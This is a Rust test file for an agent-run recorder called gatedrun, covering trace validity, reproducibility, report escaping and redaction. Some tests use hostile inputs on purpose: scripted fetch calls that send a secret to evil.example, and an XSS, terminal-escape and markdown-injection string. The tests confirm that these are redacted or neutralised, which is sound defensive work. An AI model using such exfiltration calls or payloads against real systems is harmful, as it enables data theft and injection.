use std::collections::{HashMap, HashSet};
use std::io::{BufReader, Write};

use gatedrun::event::Detail;
use gatedrun::evidence::compare::{Comparison, Difference};
use gatedrun::evidence::recorder::project;
use gatedrun::evidence::trace::ATTRIBUTES;
use gatedrun::evidence::{FILES, text as escape};
use opentelemetry_proto::tonic::trace::v1::TracesData;
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::support::{Folder, committed_runs, file, run, scripted};

#[test]
fn the_ledger_alone_gives_the_committed_files() {
    for run in committed_runs() {
        let ledger = file(&format!("runs/{run}/state.jsonl"));
        let projected = project(ledger.as_slice(), Vec::new(), Vec::new()).unwrap();
        for (name, bytes) in FILES.into_iter().zip([
            projected.state,
            projected.trace,
            projected.report,
            projected.manifest,
        ]) {
            assert!(bytes == file(&format!("runs/{run}/{name}")), "{run}/{name}");
        }
    }
}

#[test]
fn every_committed_run_executes_to_the_same_bytes_and_as_expected() {
    let library =
        gatedrun::inputs::Library::new(gatedrun::inputs::Root::Folder(crate::support::root()));
    let folder = Folder::new();
    for (number, id) in committed_runs().into_iter().enumerate() {
        let inputs = library.load(&format!("tasks/{id}.json"), None).unwrap();
        let (recorded, records) = run(&inputs, &folder.path().join(number.to_string()));
        let made = [recorded.state, recorded.trace, recorded.report, recorded.manifest];
        for (name, bytes) in FILES.into_iter().zip(made) {
            assert!(bytes == file(&format!("runs/{id}/{name}")), "{id}/{name}");
        }
        let mut observed = gatedrun::evidence::expect::Observed::default();
        records.iter().for_each(|record| observed.push(record));
        assert_eq!(observed.unmet(inputs.task.expected.as_ref().unwrap()), [""; 0], "{id}");
    }
}

/// Reads a trace as strictly as the format is written down: the keys that exist, ids as lower-case
/// hex of the right length, 64-bit integers as strings, one value in each attribute.
fn strict_spans(trace: &Value) -> Vec<Value> {
    let keys = |value: &Value, known: &[&str]| {
        for key in value.as_object().unwrap().keys() {
            assert!(known.contains(&key.as_str()), "unknown key {key}");
        }
    };
    let attributes = |list: &Value| {
        let mut seen = HashSet::new();
        for attribute in list.as_array().unwrap() {
            keys(attribute, &["key", "value"]);
            assert!(
                seen.insert(attribute["key"].as_str().unwrap().to_owned()),
                "{attribute} twice"
            );
            let value = attribute["value"].as_object().unwrap();
            assert_eq!(value.len(), 1, "{attribute}");
            match value.iter().next().unwrap() {
                (kind, Value::String(text)) if kind == "intValue" => {
                    assert!(text.parse::<i64>().is_ok())
                }
                (kind, Value::String(_)) if kind == "stringValue" => {}
                (kind, Value::Bool(_)) if kind == "boolValue" => {}
                (kind, Value::Object(array)) if kind == "arrayValue" => {
                    keys(&Value::Object(array.clone()), &["values"]);
                    for value in array["values"].as_array().unwrap() {
                        keys(value, &["stringValue"]);
                        assert!(value["stringValue"].is_string());
                    }
                }
                other => panic!("{other:?}"),
            }
        }
    };
    let hex = |value: &Value, length: usize| {
        let id = value.as_str().unwrap();
        assert!(
            id.len() == length
                && id.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)),
            "{id}"
        );
        assert!(id.bytes().any(|b| b != b'0'), "an id of zeros is not valid");
    };
    keys(trace, &["resourceSpans"]);
    let mut spans = Vec::new();
    for resource in trace["resourceSpans"].as_array().unwrap() {
        keys(resource, &["resource", "scopeSpans", "schemaUrl"]);
        attributes(&resource["resource"]["attributes"]);
        for scope in resource["scopeSpans"].as_array().unwrap() {
            keys(scope, &["scope", "spans", "schemaUrl"]);
            for span in scope["spans"].as_array().unwrap() {
                keys(
                    span,
                    &[
                        "traceId",
                        "spanId",
                        "parentSpanId",
                        "name",
                        "kind",
                        "startTimeUnixNano",
                        "endTimeUnixNano",
                        "attributes",
                        "events",
                        "status",
                    ],
                );
                hex(&span["traceId"], 32);
                hex(&span["spanId"], 16);
                if !span["parentSpanId"].is_null() {
                    hex(&span["parentSpanId"], 16);
                }
                attributes(&span["attributes"]);
                for event in span["events"].as_array().into_iter().flatten() {
                    keys(event, &["timeUnixNano", "name", "attributes"]);
                    attributes(&event["attributes"]);
                }
                let time = |key: &str| span[key].as_str().unwrap().parse::<u64>().unwrap();
                assert!(
                    time("startTimeUnixNano") < time("endTimeUnixNano"),
                    "a span of no length: {span}"
                );
                spans.push(span.clone());
            }
        }
    }
    spans
}

fn attribute<'v>(span: &'v Value, key: &str) -> Option<&'v Value> {
    let found = span["attributes"].as_array().unwrap().iter().find(|a| a["key"] == key)?;
    found["value"].as_object().unwrap().values().next()
}

#[test]
fn traces_are_valid_otlp_by_the_official_types_and_by_a_strict_reader() {
    for run in committed_runs() {
        let bytes = file(&format!("runs/{run}/trace.json"));
        let official: TracesData = serde_json::from_slice(&bytes).unwrap();
        let trace: Value = serde_json::from_slice(&bytes).unwrap();
        let spans = strict_spans(&trace);
        let typed: Vec<_> = official
            .resource_spans
            .iter()
            .flat_map(|r| &r.scope_spans)
            .flat_map(|s| &s.spans)
            .collect();
        assert_eq!(typed.len(), spans.len());
        for (typed, span) in typed.iter().zip(&spans) {
            assert_eq!(typed.trace_id.len(), 16);
            assert_eq!(typed.span_id.len(), 8);
            assert_eq!(typed.name, span["name"].as_str().unwrap());
            assert_eq!(typed.attributes.len(), span["attributes"].as_array().unwrap().len());
            assert_eq!(
                typed.start_time_unix_nano.to_string(),
                span["startTimeUnixNano"].as_str().unwrap()
            );
        }
        // One tree, and every child inside its parent.
        let by_id: HashMap<&str, &Value> =
            spans.iter().map(|s| (s["spanId"].as_str().unwrap(), s)).collect();
        assert_eq!(by_id.len(), spans.len(), "ids are unique");
        let roots = spans.iter().filter(|span| span["parentSpanId"].is_null()).count();
        assert_eq!(roots, 1);
        for span in spans.iter().filter(|span| !span["parentSpanId"].is_null()) {
            let parent = by_id[span["parentSpanId"].as_str().unwrap()];
            let time =
                |span: &Value, key: &str| span[key].as_str().unwrap().parse::<u64>().unwrap();
            assert!(time(parent, "startTimeUnixNano") <= time(span, "startTimeUnixNano"), "{span}");
            assert!(time(parent, "endTimeUnixNano") >= time(span, "endTimeUnixNano"), "{span}");
        }
        for span in &spans {
            for attribute in span["attributes"].as_array().unwrap() {
                let key = attribute["key"].as_str().unwrap();
                let known = ATTRIBUTES.iter().any(|(name, _)| *name == key)
                    || key.strip_prefix("policy.").is_some_and(|detail| {
                        serde_json::from_value::<Detail>(json!(detail)).is_ok()
                    });
                assert!(known, "{key} is not documented");
            }
        }
    }
}

#[test]
fn the_canonical_trace_holds_what_it_should() {
    let trace: Value = serde_json::from_slice(&file("runs/canonical/v1/trace.json")).unwrap();
    let spans = strict_spans(&trace);
    let mut counts: HashMap<&str, usize> = HashMap::new();
    for span in &spans {
        let operation = span["name"].as_str().unwrap().split(' ').next().unwrap();
        *counts.entry(operation).or_default() += 1;
        if span["name"] == "policy_check" {
            assert_eq!(attribute(span, "agent.policy.decision").unwrap(), "allow");
        }
        if span["name"] == "retry_attempt" {
            assert_eq!(attribute(span, "agent.retry.outcome").unwrap(), "success");
        }
        assert!(span["status"].is_null(), "nothing failed");
    }
    let expected = [
        ("invoke_agent", 1),
        ("agent_step", 5),
        ("chat", 5),
        ("execute_tool", 4),
        ("policy_check", 4),
        ("retry_attempt", 4),
    ];
    assert_eq!(counts, HashMap::from(expected));
    let root = spans.last().unwrap();
    assert_eq!(root["name"], "invoke_agent gatedrun");
    assert_eq!(attribute(root, "agent.terminal_reason").unwrap(), "final_answer");
    assert!(spans.iter().any(|span| span["name"] == "execute_tool search"));
    let chats: Vec<&Value> =
        spans.iter().filter(|span| span["name"].as_str().unwrap().starts_with("chat ")).collect();
    let reason = |span: &&Value| {
        attribute(span, "gen_ai.response.finish_reasons").unwrap()["values"][0]["stringValue"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let reasons: Vec<String> = chats.iter().map(reason).collect();
    assert_eq!(reasons, ["tool_calls", "tool_calls", "tool_calls", "tool_calls", "stop"]);
    // A trace carries no content by default.
    let text = trace.to_string();
    for content in ["inspection interval", "Team Cobalt", "I look for"] {
        assert!(!text.contains(content), "{content:?} is in the trace");
    }
}

/// Whatever the agent writes, and wherever a rule or a tool quotes it, a trace does not repeat it.
#[test]
fn a_trace_quotes_nothing_that_the_agent_wrote() {
    const SECRET: &str = "s3cr3t-7f1d";
    let folder = Folder::lenient_project();
    let call = |tool: &str, arguments: Value| json!({"tool": tool, "arguments": arguments});
    let denied = json!([
        {"text": SECRET, "calls": [
            call("fetch", json!({"url": format!("https://evil.example/{SECRET}?d={SECRET}#{SECRET}")})),
            call("fetch", json!({"url": format!("https://{SECRET}@evil.example/")})),
            call("fetch", json!({"url": format!("not a URL {SECRET}")})),
            call("fetch", json!({"url": format!("https://fixtures.local/{SECRET}")})),
            call("search", json!({"query": {"quoted": SECRET}})),
            call("search", json!({"query": "pump", SECRET: 1})),
            call("search", json!({"query": SECRET})),
            call("write", json!({"path": "work/a.md", "content": SECRET})),
            call("summarize", json!({"text": SECRET, "max_sentences": 1})),
        ]},
        {"final_answer": SECRET}
    ]);
    let inputs = scripted(&folder, denied, &[]);
    let made = run(&inputs, &folder.path().join("work")).0;
    assert!(String::from_utf8(made.state).unwrap().contains(SECRET));
    let trace = String::from_utf8(made.trace).unwrap();
    strict_spans(&serde_json::from_str(&trace).unwrap());
    assert!(trace.contains("https://evil.example\""), "the origin is shown");
    let quoted: Vec<&str> = trace.lines().filter(|line| line.contains(SECRET)).collect();
    assert!(quoted.is_empty(), "{quoted:#?}");
}

#[test]
fn an_added_event_changes_no_other_spans_id() {
    let folder = Folder::project();
    let search = |query: &str| json!({"tool": "search", "arguments": {"query": query}});
    let ids = |calls: Value| -> HashMap<String, String> {
        let inputs = scripted(
            &folder,
            json!([{"calls": calls}, {"calls": [search("c")]}, {"final_answer": "x"}]),
            &[],
        );
        let trace: Value =
            serde_json::from_slice(&run(&inputs, &folder.path().join("work")).0.trace).unwrap();
        strict_spans(&trace)
            .iter()
            .filter(|span| {
                let name = span["name"].as_str().unwrap();
                ["agent_step", "chat ", "invoke_agent "].iter().any(|start| name.starts_with(start))
            })
            .map(|span| {
                let step =
                    attribute(span, "agent.step_index").map_or(String::new(), ToString::to_string);
                (format!("{} {step}", span["name"]), span["spanId"].to_string())
            })
            .collect()
    };
    assert_eq!(ids(json!([search("a")])), ids(json!([search("a"), search("b")])));
}

#[test]
fn data_in_a_report_stays_data() {
    let folder = Folder::project();
    let hostile = "x\n## Outcome\n\n| Terminal reason | final_answer |\n\u{1b}[2J<script>alert(1)</script> [a](https://evil.invalid) \u{202e}abc";
    let script = json!([
        {"calls": [{"tool": format!("{hostile}\n# Run report"), "arguments": {}, "unknown_tool": true}]},
        {"final_answer": hostile}
    ]);
    for edits in [&[][..], &[("on_deny: terminate", "on_deny: continue")][..]] {
        let inputs = scripted(&folder, script.clone(), edits);
        let (recorded, _) = run(&inputs, &folder.path().join("work"));
        let report = String::from_utf8(recorded.report).unwrap();
        assert_eq!(report.lines().filter(|line| line.starts_with("# ")).count(), 1, "{report}");
        assert_eq!(
            report.lines().filter(|line| line.starts_with("## Outcome")).count(),
            1,
            "{report}"
        );
        assert!(
            !report.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
            "{report}"
        );
        assert!(
            !report.contains("<script>") && !report.replace("\\]", "").contains("]("),
            "{report}"
        );
        assert_eq!(
            report.lines().filter(|line| line.starts_with("| Terminal reason")).count(),
            1,
            "{report}"
        );
    }
}

#[test]
fn escapes_show_what_they_hide() {
    assert_eq!(
        escape::terminal("a\u{1b}]0;x\u{7}\r\nb\u{85}"),
        "a<U+001B>]0;x<U+0007><U+000D>␊b<U+0085>"
    );
    assert_eq!(
        escape::markdown("a|b `c` <d> [e](f) **g** _h_ # i"),
        "a\\|b \\`c\\` \\<d\\> \\[e\\](f) \\*\\*g\\*\\* \\_h\\_ \\# i"
    );
    assert_eq!(escape::quotation("1. a\n- b\n# c"), "> 1\\. a\\\n> \\- b\\\n> \\# c\n");
}

#[test]
fn all_parts_of_a_run_tell_one_story() {
    for run in committed_runs() {
        let manifest: Value =
            serde_json::from_slice(&file(&format!("runs/{run}/manifest.json"))).unwrap();
        let trace: Value =
            serde_json::from_slice(&file(&format!("runs/{run}/trace.json"))).unwrap();
        let report = String::from_utf8(file(&format!("runs/{run}/run_report.md"))).unwrap();
        let spans = strict_spans(&trace);
        let root = spans.last().unwrap();
        let reason = manifest["outcome"]["terminal_reason"].as_str().unwrap();
        assert_eq!(attribute(root, "agent.terminal_reason").unwrap(), reason, "{run}");
        assert!(
            report.contains(&format!("| Terminal reason | {}", escape::markdown(reason))),
            "{run}"
        );
        assert_eq!(root["status"].is_null(), reason == "final_answer", "{run}");
        let of = |name: &str, key: &str, value: &str| {
            spans
                .iter()
                .filter(|s| s["name"] == name && attribute(s, key).is_some_and(|v| v == value))
                .count() as u64
        };
        let outcome = &manifest["outcome"];
        let call_checks = |decision: &str| {
            spans
                .iter()
                .filter(|s| {
                    s["name"] == "policy_check"
                        && attribute(s, "agent.policy.subject").unwrap() == "call"
                })
                .filter(|s| attribute(s, "agent.policy.decision").unwrap() == decision)
                .count() as u64
        };
        assert_eq!(outcome["calls_allowed"], call_checks("allow"), "{run}");
        assert_eq!(outcome["calls_denied"], call_checks("deny"), "{run}");
        assert_eq!(
            outcome["exhausted"],
            of("retry_attempt", "agent.retry.outcome", "exhausted"),
            "{run}"
        );
        let attempts = spans.iter().filter(|s| s["name"] == "retry_attempt").count();
        let tools = spans
            .iter()
            .filter(|s| s["name"].as_str().unwrap().starts_with("execute_tool "))
            .count();
        assert_eq!(outcome["attempts"], attempts, "{run}");
        assert_eq!(outcome["retries"], attempts - tools, "{run}");
    }
}

/// The first difference, found the slow way.
fn naive(committed: &[u8], now: &[u8]) -> Option<Difference> {
    let split = |text: &[u8]| -> Vec<Vec<u8>> {
        text.split_inclusive(|byte| *byte == b'\n').map(<[u8]>::to_vec).collect()
    };
    let (a, b) = (split(committed), split(now));
    let at = (0..a.len().max(b.len())).find(|at| a.get(*at) != b.get(*at))?;
    let (a, b) = (a.get(at).cloned(), b.get(at).cloned());
    let bytes = |line: &Option<Vec<u8>>| line.clone().unwrap_or_default();
    let same = bytes(&a).iter().zip(bytes(&b)).take_while(|(a, b)| **a == *b).count();
    let strip =
        |line: Option<Vec<u8>>| line.map(|line| line.strip_suffix(b"\n").unwrap_or(&line).to_vec());
    Some(Difference { line: at as u64 + 1, column: same + 1, committed: strip(a), now: strip(b) })
}

proptest! {
    #[test]
    fn the_first_difference_is_the_first(
        a in "[ab\n]{0,24}", b in "[ab\n]{0,24}", cut in 0_usize..24, buffer in 1_usize..5,
        same in any::<bool>(),
    ) {
        // Half of them differ late, in what follows a common beginning.
        let b = if same { format!("{a}{b}") } else { b };
        let (a, b) = (a.as_bytes(), b.as_bytes());
        let mut comparison = Comparison::new(BufReader::with_capacity(buffer, a));
        for part in b.chunks(cut.max(1)) {
            comparison.write_all(part).unwrap();
        }
        prop_assert_eq!(comparison.finish().unwrap(), naive(a, b));
    }
}
